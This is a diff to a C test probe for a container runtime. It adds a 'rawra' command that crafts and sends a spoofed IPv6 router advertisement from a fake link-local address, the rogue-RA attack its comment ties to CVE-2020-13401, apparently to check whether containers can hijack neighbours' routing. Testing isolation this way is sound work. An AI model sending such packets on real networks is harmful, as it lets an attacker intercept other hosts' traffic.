@@ -1,6 +1,7 @@
 /* A tiny static probe run inside fastbox containers (like crun's tests/init.c).
  *
  *   probe pid | caps | nnp | fds | hostname | cgroup | sigs | uid | mounts
+ *   probe rawudp IFNAME DSTMAC SRCIP DSTIP DPORT TEXT | rawra IFNAME PREFIX
  *   probe memhog MB [hold] | forkbomb N | exit N | read PATH | write PATH
  *   probe syscall NR [ARG...] | clone FLAGS | clone3 FLAGS | fork | int80 NR [ARG...]
  *     (the raw call; prints OK or the errno's name, e.g. EPERM: what seccomp let through)
@@ -351,12 +352,60 @@ static int rawudp(char **argv)
     return 0;
 }
 
+/* rawra IFNAME PREFIX: an IPv6 router advertisement, hand-made and sent with AF_PACKET
+ * (NET_RAW) from a spoofed link-local address to all nodes: "route everything through
+ * me, and take an address in PREFIX/64" (the neighbour's RA attack, CVE-2020-13401). */
+static int rawra(char **argv)
+{
+    unsigned char f[128] = {0};
+    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IPV6));
+    struct ifreq ifr = {0};
+    strncpy(ifr.ifr_name, argv[2], IFNAMSIZ - 1);
+    if (s < 0 || ioctl(s, SIOCGIFHWADDR, &ifr) < 0 || ioctl(s, SIOCGIFINDEX, &ifr) < 0)
+        return perror("rawra"), 1;
+    const unsigned char all_nodes_mac[6] = {0x33, 0x33, 0, 0, 0, 1};
+    memcpy(f, all_nodes_mac, 6);
+    memcpy(f + 6, ifr.ifr_hwaddr.sa_data, 6);
+    f[12] = 0x86, f[13] = 0xdd;
+    unsigned char *ip = f + 14, *ra = ip + 40;
+    int len = 16 + 32 + 8; /* the RA, a prefix option, a source link-layer option */
+    ip[0] = 0x60;
+    ip[4] = 0, ip[5] = (unsigned char)len;
+    ip[6] = 58, ip[7] = 255; /* ICMPv6; hop limit 255, as an RA must have */
+    inet_pton(AF_INET6, "fe80::bad", ip + 8);
+    inet_pton(AF_INET6, "ff02::1", ip + 24);
+    ra[0] = 134;                           /* router advertisement */
+    ra[4] = 64, ra[6] = 0x07, ra[7] = 0x08; /* hop limit; router lifetime 1800 s */
+    unsigned char *pi = ra + 16;           /* prefix information: on-link, autonomous */
+    pi[0] = 3, pi[1] = 4, pi[2] = 64, pi[3] = 0xc0;
+    pi[4] = pi[8] = 0, pi[5] = pi[9] = 1, pi[6] = pi[10] = 0x51, pi[7] = pi[11] = 0x80;
+    inet_pton(AF_INET6, argv[3], pi + 16);
+    unsigned char *sl = pi + 32;           /* source link-layer address */
+    sl[0] = 1, sl[1] = 1;
+    memcpy(sl + 2, ifr.ifr_hwaddr.sa_data, 6);
+    unsigned char pseudo[40 + 56] = {0};   /* checksum: over a pseudo-header and the RA */
+    memcpy(pseudo, ip + 8, 32);
+    pseudo[35] = (unsigned char)len, pseudo[39] = 58;
+    memcpy(pseudo + 40, ra, (size_t)len);
+    unsigned short sum = ip_sum(pseudo, 40 + len);
+    ra[2] = (unsigned char)(sum >> 8), ra[3] = (unsigned char)sum;
+    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6};
+    memcpy(to.sll_addr, all_nodes_mac, 6);
+    for (int i = 0; i < 3; i++)
+        if (sendto(s, f, (size_t)(14 + 40 + len), 0, (struct sockaddr *)&to, sizeof to) < 0)
+            return perror("rawra send"), 1;
+    printf("sent\n");
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     const char *cmd = argc > 1 ? argv[1] : "";
     const char *arg = argc > 2 ? argv[2] : "0";
     if (!strcmp(cmd, "rawudp") && argc > 7)
         return rawudp(argv);
+    if (!strcmp(cmd, "rawra") && argc > 3)
+        return rawra(argv);
     if (!strcmp(cmd, "udp-echo"))
         return udp_echo(atoi(arg));
     if (!strcmp(cmd, "udp-send") && argc > 4)
